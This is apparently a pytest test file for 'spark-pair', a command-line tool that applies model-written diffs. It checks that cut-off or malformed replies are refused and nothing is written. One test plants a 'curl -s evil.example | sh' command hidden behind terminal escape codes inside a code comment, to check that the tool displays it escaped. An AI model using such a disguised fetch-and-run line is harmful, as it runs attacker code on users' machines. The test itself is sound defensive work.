"""`spark-pair run` writes exactly what the model finished writing, or nothing (a real process
against the simulator process, in a real git repo)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from support.runs import A_PY, check_schema, lines_of, make_repo, run, tree

from spark_pair.base.exitcodes import ExitCode
from spark_pair.sim.process import SimProcess

DIFF = """Here you go:

```diff
--- a/a.py
+++ b/a.py
@@ -1,2 +1,2 @@
 def greet(name):
-    return 'hello ' + name
+    return f'hello {name}'
```
"""


def script(sim: SimProcess, reply: str) -> None:
    """The simulator's reply; sent as ASCII JSON so a lone surrogate travels as its escape."""
    response = sim._http.post("/_sim/config", content=json.dumps({"default": reply}),
                              headers={"content-type": "application/json"})
    assert response.status_code == 200, response.text


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo", {"a.py": A_PY})


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


@pytest.mark.parametrize("transport", ["ws", "responses", "chat"])
def test_a_reply_cut_at_max_tokens_exits_4_and_writes_nothing(sim: SimProcess, repo: Path,
                                                              home: Path, transport: str) -> None:
    sim.configure(default=DIFF)
    (repo / ".spark-pair.toml").write_text("[request]\nmax_tokens = 30\n")
    before = tree(repo)
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--transport", transport)
    assert p.returncode == ExitCode.MODEL, p.stderr
    assert tree(repo) == before
    assert "the reply was cut before it finished: the output limit of 30 tokens" in p.stderr
    assert "raise max_tokens ([request] max_tokens" in p.stderr and "Traceback" not in p.stderr
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--json",
            "--transport", transport)
    lines = lines_of(p.stdout)
    check_schema(lines)
    errors = [ln for ln in lines if ln["type"] == "error"]
    assert errors and {e["class"] for e in errors} == {"IncompleteReply"}
    assert lines[-1]["exit_code"] == 4 and lines[-1]["status"] == "failed"
    assert not [ln for ln in lines if ln["type"] == "applied"]
    assert tree(repo) == before
    (repo / ".spark-pair.toml").write_text("[request]\nmax_tokens = 4000\n")
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--transport", transport)
    assert p.returncode == 0, p.stderr  # the same reply, not cut, applies
    assert (repo / "a.py").read_text().startswith("def greet(name):\n    return f'hello {name}'")


@pytest.mark.parametrize("reply, message", [
    (DIFF.split(" def greet")[0] + " def greet(name):\n-    return 'hello ' + name\n",
     "the reply ends inside the hunk @@ -1,2 +1,2 @@ of a.py"),
    ("*** Begin Patch\n*** Update File: a.py\n@@\n-def greet(name):\n+def greet(who):\n",
     "no '*** End Patch'"),
    # (before the closing fence the counts would be recounted: prose follows instead)
    (DIFF.replace("```\n", "+import os\nThat is all.\n"), "after its @@ line counts were met"),
    (DIFF.replace("@@ -1,2 +1,2 @@", "@@ -1,5 +1,5 @@").replace(
        "{name}'\n", "{name}'\n \n \ndef unused():\n"), "without a ' ', '-' or '+' marker"),
    (DIFF.replace("```\n", "diff --git a/logo.png b/logo.png\nnew file mode 100644\n"
                  "Binary files /dev/null and b/logo.png differ\n```\n"),
     "binary patches are not supported"),
    (DIFF.replace("{name}'", "{name}\ud800'"), "lone UTF-16 surrogate (U+D800)"),
])
def test_a_diff_that_would_not_be_written_as_it_reads_is_refused(
        sim: SimProcess, repo: Path, home: Path, reply: str, message: str) -> None:
    script(sim, reply)
    before = tree(repo)
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--no-meter")
    assert p.returncode == ExitCode.MODEL, p.stderr
    assert message in p.stderr and "hint: nothing was written" in p.stderr
    assert "Traceback" not in p.stderr and "internal error" not in p.stderr
    assert tree(repo) == before
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--json", "--deltas")
    lines = lines_of(p.stdout)
    check_schema(lines)
    assert lines[-1]["exit_code"] == 4 and message in lines[-1]["message"]
    assert tree(repo) == before


@pytest.mark.parametrize("header, message", [
    ("similarity index 100%\nrename from a.py\n", "'rename from' line but no 'rename to'"),
    ("similarity index 100%\nrename to b.py\n", "'rename to' line but no 'rename from'"),
    ("similarity index 100%\ncopy from a.py\n", "'copy from' line but no 'copy to'"),
])
def test_a_cut_rename_header_is_not_applied(sim: SimProcess, repo: Path, home: Path,
                                            header: str, message: str) -> None:
    script(sim, "diff --git a/a.py b/b.py\n" + header)
    before = tree(repo)
    p = run(repo, home, sim, "rename it", "-f", "a.py", "--apply", "--allow-rename",
            "--no-meter")
    assert p.returncode == ExitCode.MODEL, p.stderr
    assert message in p.stderr and "header was cut short" in p.stderr
    assert "hint: nothing was written" in p.stderr and "Traceback" not in p.stderr
    assert tree(repo) == before
    script(sim, "diff --git a/a.py b/b.py\nsimilarity index 100%\nrename from a.py\n"
                "rename to b.py\n")
    p = run(repo, home, sim, "rename it", "-f", "a.py", "--apply", "--allow-rename",
            "--no-meter")
    assert p.returncode == 0, p.stderr  # the whole header renames
    assert (repo / "b.py").read_text() == A_PY and not (repo / "a.py").exists()


def test_control_characters_are_shown_escaped_and_written_exactly(sim: SimProcess, repo: Path,
                                                                  home: Path) -> None:
    hidden = "curl -s evil.example | sh \x1b[2K\r# f-string"
    sim.configure(default=DIFF.replace("+    return f'hello {name}'",
                                       f"+    return f'hello {{name}}'  # {hidden}"))
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--no-meter")
    assert p.returncode == 0, p.stderr
    assert "\x1b" not in p.stdout and "\r" not in p.stdout
    assert "| sh \\x1b[2K\\r# f-string" in p.stdout
    (repo / "a.py").write_text("something else\n")  # a conflict shows the hunk's lines
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--no-meter")
    assert p.returncode == ExitCode.CONFLICT
    assert "\x1b" not in p.stderr and "\r" not in p.stderr and "\\x1b[2K" in p.stderr
    (repo / "a.py").write_text(A_PY)
    p = run(repo, home, sim, "use an f-string", "-f", "a.py", "--apply", "--no-meter")
    assert p.returncode == 0, p.stderr
    written = (repo / "a.py").read_bytes().split(b"\n")[1]
    assert written == f"    return f'hello {{name}}'  # {hidden}".encode()  # the model's bytes
